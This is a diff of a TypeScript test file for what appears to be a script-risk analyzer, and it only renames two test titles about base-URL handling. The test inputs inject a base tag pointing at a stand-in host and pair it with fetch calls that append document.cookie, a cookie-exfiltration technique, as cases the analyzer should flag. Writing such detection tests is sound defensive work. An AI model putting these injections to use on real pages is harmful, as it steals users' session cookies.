@@ -73,13 +73,13 @@ describe("a base for addresses", () => {
 		["markup", `document.head.insertAdjacentHTML("afterbegin", "<base href='https://c.test/'>");`],
 	] as const;
 
-	test.each(BASES)("%s moves what names no host", (_title, base) => {
+	test.each(BASES)("%s moves relative addresses", (_title, base) => {
 		for (const address of ['"x?" + document.cookie', '"/x?" + document.cookie', '"?" + document.cookie'])
 			expect(analyzeScript({ code: `${base} fetch(${address})` }).risk_level).toBe("red");
 		expect(analyzeScript({ code: base }).risk_level).toBe("amber");
 	});
 
-	test.each(BASES)("%s leaves alone what names one", (_title, base) => {
+	test.each(BASES)("%s leaves absolute addresses unchanged", (_title, base) => {
 		const code = `${base} fetch(location.origin + "/x?" + document.cookie)`;
 		expect(sinksOf(code)).toContainEqual(expect.stringMatching(/^request fetch > same-site </));
 		expect(analyzeScript({ code: base.replace("https://c.test/", "/app/") }).risk_level).toBe("green");
